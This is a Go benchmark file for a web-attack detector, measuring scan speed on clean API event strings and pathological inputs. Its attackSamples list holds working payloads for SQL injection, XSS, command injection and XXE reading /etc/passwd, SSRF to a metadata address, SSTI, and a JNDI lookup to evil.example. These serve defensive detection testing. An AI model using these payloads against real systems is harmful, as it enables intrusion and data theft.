package detect

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// A typical API Gateway REST event carries about thirty client-controlled
// strings: headers, query parameters, path parameters, a small JSON body.
var cleanEvent = []string{
	"GET", "/prod/orders/12345", "orders", "12345",
	"application/json", "gzip, deflate, br", "en-US,en;q=0.9",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"keep-alive", "api.example.com", "https://www.example.com/checkout?step=2",
	"Root=1-65a1b2c3-1234567890abcdef12345678", "3f2a1b4c-5d6e-4f70-8a9b-0c1d2e3f4a5b",
	"no-cache", "1.1 7a8b9c.cloudfront.net (CloudFront)", "203.0.113.42", "https", "443",
	"session=abc123def456; theme=dark", "2024-01-15T10:30:00Z", "desc", "25", "shipped",
	"Jane O'Brien", "jane.obrien@example.com", "Please leave the parcel at the back door, thanks!",
	"42 Main St, Springfield", "+1 (555) 010-2000", "Blue cotton t-shirt, size M", "$19.99",
}

func benchDetector(b *testing.B) *Detector {
	d, err := New(Config{})
	if err != nil {
		b.Fatal(err)
	}
	return d
}

func BenchmarkNew(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := New(Config{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkNewWithRules(b *testing.B) {
	cfg := Config{Rules: []Rule{
		{ID: "custom.ticket", Category: SQLi, Pattern: `drop\s+database`},
		{ID: "custom.path", Category: PathTraversal, Pattern: `/internal/[a-z]+`},
	}}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := New(cfg); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkScanCleanShort(b *testing.B) {
	d := benchDetector(b)
	var dst []Match
	b.ReportAllocs()
	for b.Loop() {
		dst = d.Scan(dst[:0], "shipped", Input{})
	}
}

// BenchmarkScanProseAmpersand scans short text with a spaced '&' and an
// everyday command word after it, as an XML document's text reads once
// "&amp;" is decoded (the adversarial "XML document" row): the shell
// grammars' shortcut (proseAmpersands).
func BenchmarkScanProseAmpersand(b *testing.B) {
	d := benchDetector(b)
	var dst []Match
	b.ReportAllocs()
	for b.Loop() {
		dst = d.Scan(dst[:0], "text 5 & more", Input{})
	}
}

// BenchmarkScanShortValues scans the short values of the adversarial
// rows whose cost is Scan's fixed cost per string (a counter in each, as
// there, so that they differ): "many different short strings", the text
// of "XML document" with "&amp;" decoded and its ids, the names of "gzip
// JSON" (12 letters and digits) and the hexadecimal keys of "many tiny
// JSON fields".
func BenchmarkScanShortValues(b *testing.B) {
	d := benchDetector(b)
	shapes := []struct {
		name string
		kind Kind
		f    func(i int) string
	}{
		{"words_parens", Value, func(i int) string { return fmt.Sprintf("a%d (b) c-%d", i, i*7) }},
		{"xml_text", Value, func(i int) string { return fmt.Sprintf("text %d & more", i) }},
		{"alnum12", Value, func(i int) string { return fmt.Sprintf("k%dq9x%05dm", i%10, i*37%100000) }},
		{"hex_key", Key, func(i int) string { return fmt.Sprintf("%x", i) }},
		{"digits", Value, func(i int) string { return fmt.Sprintf("%d", i) }},
	}
	for _, sh := range shapes {
		vals := make([]string, 256)
		for i := range vals {
			vals[i] = sh.f(i * 157) // 0 to 40,035: the counters of a 16 KB to a 6 MB body
		}
		b.Run(sh.name, func(b *testing.B) {
			var dst []Match
			b.ReportAllocs()
			i := 0
			for b.Loop() {
				dst = d.Scan(dst[:0], vals[i&255], Input{Kind: sh.kind})
				i++
			}
			if len(dst) != 0 {
				b.Fatalf("clean value flagged: %v", dst)
			}
		})
	}
}

// BenchmarkScanCleanEvent scans every string of a typical clean event.
func BenchmarkScanCleanEvent(b *testing.B) {
	d := benchDetector(b)
	var dst []Match
	b.ReportAllocs()
	for b.Loop() {
		for _, s := range cleanEvent {
			dst = d.Scan(dst[:0], s, Input{})
		}
	}
	if len(dst) != 0 {
		b.Fatalf("clean event flagged: %v", dst)
	}
}

func BenchmarkScanClean1KB(b *testing.B) {
	d := benchDetector(b)
	text := strings.Repeat("The quick brown fox jumps over the lazy dog, and then it naps. ", 17)[:1024]
	benchScanClean(b, d, text)
}

// BenchmarkScanProseNote scans a 560-byte note of lower-case words and
// spaces, the shape of most of a large benign order document's bytes.
func BenchmarkScanProseNote(b *testing.B) {
	d := benchDetector(b)
	words := strings.Fields("please wrap the blue mug as a gift for my aunt and leave the box at the back door " +
		"if nobody answers the bell the fabric scarf is soft and fragile so handle with care thanks")
	var sb strings.Builder
	for i := 0; sb.Len() < 560; i += 7 {
		if sb.Len() > 0 {
			sb.WriteByte(' ')
		}
		sb.WriteString(words[i%len(words)])
	}
	text := sb.String()
	benchScanClean(b, d, text)
}

// BenchmarkScanProseColon scans 1 KB of lower-case prose after a label
// with a colon (a class boringHint does not judge): the rest of the string
// needs its classes only.
func BenchmarkScanProseColon(b *testing.B) {
	d := benchDetector(b)
	text := ("note: " + strings.Repeat("please leave the blue mug for my aunt at the back door if nobody answers ", 14))[:1024]
	benchScanClean(b, d, text)
}

func BenchmarkScanClean1KBPunctuated(b *testing.B) {
	d := benchDetector(b)
	text := strings.Repeat("Hi! I'm O'Brien; order #123 (2 items) costs $19.99 - see https://example.com/a?b=c. ", 13)[:1024]
	benchScanClean(b, d, text)
}

var attackSamples = []struct {
	cat     Category
	payload string
}{
	{SQLi, "1' OR '1'='1' -- "},
	{XSS, `"><svg/onload=alert(document.domain)>`},
	{CmdI, "127.0.0.1; cat /etc/passwd"},
	{PathTraversal, "..%2f..%2f..%2fetc%2fpasswd"},
	{SSRF, "http://0xA9FEA9FE/latest/meta-data/"},
	{NoSQLi, `{"username": {"$ne": null}}`},
	{SSTI, "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{JNDI, "${${lower:j}ndi:ldap://evil.example/a}"},
	{ProtoPollution, `{"__proto__": {"admin": true}}`},
	{XXE, `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
	{LDAPi, "*)(uid=*))(|(uid=*"},
}

func BenchmarkScanAttack(b *testing.B) {
	d := benchDetector(b)
	for _, a := range attackSamples {
		b.Run(string(a.cat), func(b *testing.B) {
			var dst []Match
			b.ReportAllocs()
			for b.Loop() {
				dst = d.Scan(dst[:0], a.payload, Input{})
			}
			if len(dst) == 0 {
				b.Fatalf("%s not detected: %q", a.cat, a.payload)
			}
		})
	}
}

func BenchmarkScan256KB(b *testing.B) {
	d := benchDetector(b)
	var sb strings.Builder
	for sb.Len() < 256<<10 {
		sb.WriteString("Customer note: the parcel (order #4411) arrived on 2024-01-02; thanks, O'Brien & co. ")
	}
	text := sb.String()
	benchScanClean(b, d, text)
}

func BenchmarkScan256KBEncoded(b *testing.B) {
	d := benchDetector(b)
	text := strings.Repeat("%2e%2e%2f&#x3c;\\u0041", 256<<10/21)
	var dst []Match
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		dst = d.Scan(dst[:0], text, Input{})
	}
}

func BenchmarkNormalize(b *testing.B) {
	s := "%253Cscript%253Ealert(1)%253C%252Fscript%253E &#x3c;img src=x&#x3e; \\u003csvg\\u003e ＜ｓｃｒｉｐｔ＞"
	b.ReportAllocs()
	for b.Loop() {
		_ = Normalize(s)
	}
}

// pathological are inputs built to make a detector work hard: runs of an
// opener that never closes, attribute soup, encodings, shell quoting and
// SQL token storms (issue 20's worst cases included).
var pathological = []struct{ name, unit string }{
	{"tag_runs", "<a "}, {"attr_runs", "<a b="}, {"dollar_brace", "${"}, {"nested_lookup", "${${"},
	{"fullwidth", "ｆｕｌｌ"}, {"jinja_stmt", "{%"}, {"erb", "<%"}, {"freemarker", "<#"}, {"decl", "<!"},
	{"dots", "."}, {"dotdot", ".."}, {"js_escape", "\\u"}, {"pct", "%"}, {"entity", "&#"},
	{"sql_quote_or", "'or'"}, {"backticks", "`"}, {"at", "@"}, {"sleep_call", "sleep("},
	{"ifs", "x${IFS}"}, {"dequote", "w'h'o'am'i "}, {"crlf", "\r\n"}, {"braces", "{{"},
	{"js_member", "top[top["}, {"window_index", "top["}, {"ldap_ops", "(&"}, {"glued_comment", "a/*"}, {"separator_run", "*\n+$"}, {"sql_chain", "|@|"}, {"drive_path", "\\ne:"}, {"tool_args", "a|cat+"}, {"ldap_close_runs", ")*)"}, {"js_call", "alert.call("}, {"js_paren", "(0,"}, {"js_quote", "\\'"},
	{"js_concat", "'a'+"}, {"js_comment", "'/*"}, {"jsfuck", "![]+"}, {"js_template", "x`${"},
	{"subst_path", "\\u$(!/"}, {"pct_five", "%5%5"}, {"pct_25", "%25"}, {"lookup_closed", "${a}"},
	{"sql_open_parens", ":||((<!DOCTYPEfile:"}, {"freemarker_square", "[#a "}, {"semicolon_ls", "; ls "},
	{"keyword_mix", "or ls id cat; "}, {"url_runs", "http://a"}, {"php_call_dollar", "($_x"}, {"dotdot_slash", "../"}, {"fullwidth_words", "ｓｅｌｅｃｔ　ｆｒｏｍ　"},
	{"etc_dirs", "/etc/"}, {"smtp_data", "\ndata"}, {"java_roots", "java."}, {"dollar_words", "$where"}, {"ldap_breaks", ")("},
	{"utf7_ldap", "+ADw-*)(uid=**)(uid=*<![CDATA["}, {"pct25_sleep", "1=1 %25sleep("},
	{"pipes_slash", "'||/>?{{"}, {"tab_view", "C:\\base64,O:8:\"\t"},
	{"concat_scheme", "concat(../!=php://"},
}

// BenchmarkPathological reports the cost per byte (and allocations) of
// Scan on each pathological input at 16 KiB and 1 MiB; the target is
// linear cost, <= 10 us per KB, and memory <= 2x the input.
func BenchmarkPathological(b *testing.B) {
	d := mustNew(b, Config{})
	for _, p := range pathological {
		for _, size := range []int{16 << 10, 1 << 20} {
			s := strings.Repeat(p.unit, size/len(p.unit)+1)[:size]
			for len(s) > 0 && !utf8.ValidString(s) {
				s = s[:len(s)-1]
			}
			b.Run(fmt.Sprintf("%s/%dKB", p.name, size>>10), func(b *testing.B) {
				b.ReportAllocs()
				b.SetBytes(int64(len(s)))
				var buf []Match
				for i := 0; i < b.N; i++ {
					buf = d.Scan(buf[:0], s, Input{Kind: Value})
				}
			})
		}
	}
}

// BenchmarkDetector runs each category's detector alone on a prepared
// (normalised) 1 KB input that reaches it: the per-detector cost without
// the pre-filter and gates.
func BenchmarkDetector(b *testing.B) {
	text := strings.Repeat("Hi! I'm O'Brien; order #123 (2 items) costs $19.99 - see https://example.com/a?b=c&d=<e> {x} ", 12)[:1024]
	for ci := catIndex(0); ci < numCategories; ci++ {
		b.Run(string(allCategories[ci]), func(b *testing.B) {
			st := new(state)
			st.prepare(text, classify(text), Input{Kind: Value})
			st.f, st.kw, _ = features(bufString(st.n), keywordIndex())
			b.ReportAllocs()
			b.SetBytes(int64(len(text)))
			for i := 0; i < b.N; i++ {
				_ = detectors[ci](st)
			}
		})
	}
}

// benchScanClean measures Scan of text, a clean text (a match fails the
// benchmark), reporting bytes and allocations.
func benchScanClean(b *testing.B, d *Detector, text string) {
	var dst []Match
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		dst = d.Scan(dst[:0], text, Input{})
	}
	if len(dst) != 0 {
		b.Fatalf("clean text flagged: %v", dst)
	}
}
